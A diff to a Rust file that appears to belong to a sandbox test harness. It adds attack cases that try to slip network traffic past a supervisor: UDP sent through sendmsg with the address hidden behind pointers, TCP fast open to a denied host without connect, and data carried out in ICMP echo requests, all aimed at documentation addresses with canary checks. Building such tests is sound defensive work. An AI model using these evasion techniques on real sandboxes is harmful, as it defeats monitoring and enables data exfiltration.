@@ -1,15 +1,19 @@
 //! Other protocols than TCP, and sockets of the machine itself.
 
-use std::net::UdpSocket;
+use std::io::{IoSlice, Read};
+use std::net::{TcpStream, UdpSocket};
 use std::os::linux::net::SocketAddrExt;
 use std::os::unix::net::SocketAddr;
+
+use rustix::net::{AddressFamily, SendAncillaryBuffer, SendFlags, SocketType, sendmsg_addr};
 
 use super::super::files::any;
 use super::super::ipc;
 use super::BASE;
 use super::client::{PATIENCE, arrived, at, datagram, label};
 use crate::attack::{Attack, Attempt, Event, Failed, Native, Proof, Trace};
-use crate::internet::{ABSTRACT, WEB};
+use crate::internet::{ABSTRACT, DENIED, WEB};
+use crate::scene::holds_canary;
 use crate::sys::{self, Arg};
 
 /// An echo request (RFC 792); the kernel fills in the checksum of a socket that is made for it.
@@ -41,11 +45,37 @@ pub(super) const ATTACKS: &[Attack] = &[
         ..BASE
     },
     Attack {
+        name: "datagram-by-message",
+        techniques: &[47, 53],
+        about: "Send a datagram by sendmsg, whose address lies behind two pointers.",
+        attempt: |_| {
+            let socket = UdpSocket::bind("0.0.0.0:0").map_err(Failed::untried)?;
+            let (bytes, mut control) = (label("message"), SendAncillaryBuffer::default());
+            let parts = [IoSlice::new(bytes.as_bytes())];
+            sendmsg_addr(&socket, &at(WEB, 443), &parts, &mut control, SendFlags::empty()).map_err(Failed::refused)?;
+            // A refusal comes back as an error of the next call.
+            socket.set_read_timeout(Some(PATIENCE))?;
+            Ok(socket.recv(&mut [0; 64]).map(drop)?)
+        },
+        proof: Proof::Host(|scene| arrived(scene, "udp-443", &label("message"))),
+        trace: Trace::Silent("the kernel refuses; what a message is sent to is not put to the supervisor"),
+        ..BASE
+    },
+    Attack {
+        name: "connection-without-connect",
+        techniques: &[47],
+        about: "Make a connection by sending to it (TCP fast open), by sendto and by sendmsg.",
+        attempt: |_| any([fast_open(false), fast_open(true)]),
+        proof: Proof::Host(|scene| arrived(scene, "http", "/fast-open")),
+        trace: Trace::Event(&[Event("network", "", "203.0.113.20:80")]),
+        ..BASE
+    },
+    Attack {
         name: "echo-requests",
         techniques: &[53],
         about: "Carry data out in echo requests.",
         attempt: |_| ping(libc::SOCK_DGRAM),
-        trace: Trace::Event(&[Event("", "socket", "")]),
+        trace: Trace::Event(&[Event("network", "sendto", "203.0.113.10")]),
         ..BASE
     },
     Attack {
@@ -75,6 +105,26 @@ pub(super) const ATTACKS: &[Attack] = &[
         ..BASE
     },
 ];
+
+/// `MSG_FASTOPEN` (`tcp(7)`), which connects and sends in one call.
+const FAST_OPEN: u32 = 0x2000_0000;
+
+fn fast_open(by_message: bool) -> Attempt {
+    let socket = rustix::net::socket(AddressFamily::INET, SocketType::STREAM, None).map_err(Failed::untried)?;
+    let (flags, to) = (SendFlags::from_bits_retain(FAST_OPEN), at(DENIED, 80));
+    let request = b"GET /fast-open HTTP/1.1\r\nHost: denied.example\r\n\r\n";
+    let sent = if by_message {
+        sendmsg_addr(&socket, &to, &[IoSlice::new(request)], &mut SendAncillaryBuffer::default(), flags)
+    } else {
+        rustix::net::sendto(&socket, request, flags, &to)
+    };
+    sent.map_err(Failed::refused)?;
+    let mut peer = TcpStream::from(socket);
+    peer.set_read_timeout(Some(PATIENCE))?;
+    let mut answer = [0; 256];
+    let length = peer.read(&mut answer)?;
+    holds_canary(&answer[..length])
+}
 
 /// Sends an echo request to the allowed host and waits for the answer.
 fn ping(kind: i32) -> Attempt {
